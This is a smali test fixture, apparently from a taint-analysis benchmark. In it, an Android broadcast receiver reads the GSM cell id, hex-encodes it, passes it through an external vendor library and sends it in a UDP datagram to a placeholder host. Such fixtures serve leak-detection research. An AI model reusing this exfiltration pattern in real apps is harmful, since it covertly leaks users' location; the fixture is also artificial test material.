.class public Lorg/phonehome/test/flows/LibraryCase;
.super Landroid/content/BroadcastReceiver;
.source "LibraryCase.java"

# The cell id, in hex, passes through a library the APK does not contain (the declared rule: its result carries its arguments) and leaves in a UDP datagram.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 9
    const-string v0, "phone"
    invoke-virtual {p1, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getCellLocation()Landroid/telephony/CellLocation;
    move-result-object v0
    check-cast v0, Landroid/telephony/gsm/GsmCellLocation;
    invoke-virtual {v0}, Landroid/telephony/gsm/GsmCellLocation;->getCid()I
    move-result v0
    invoke-static {v0}, Ljava/lang/Integer;->toHexString(I)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/vendor/sdk/Packer;->pack(Ljava/lang/String;)[B
    move-result-object v0
    :try_start
    array-length v1, v0
    const-string v2, "udp.flows.example.net"
    invoke-static {v2}, Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
    move-result-object v2
    const/16 v3, 0x2329
    new-instance v4, Ljava/net/DatagramPacket;
    invoke-direct {v4, v0, v1, v2, v3}, Ljava/net/DatagramPacket;-><init>([BILjava/net/InetAddress;I)V
    new-instance v5, Ljava/net/DatagramSocket;
    invoke-direct {v5}, Ljava/net/DatagramSocket;-><init>()V
    invoke-virtual {v5, v4}, Ljava/net/DatagramSocket;->send(Ljava/net/DatagramPacket;)V
    :try_end
    .catch Ljava/io/IOException; {:try_start .. :try_end} :failed
    :failed
    return-void
.end method
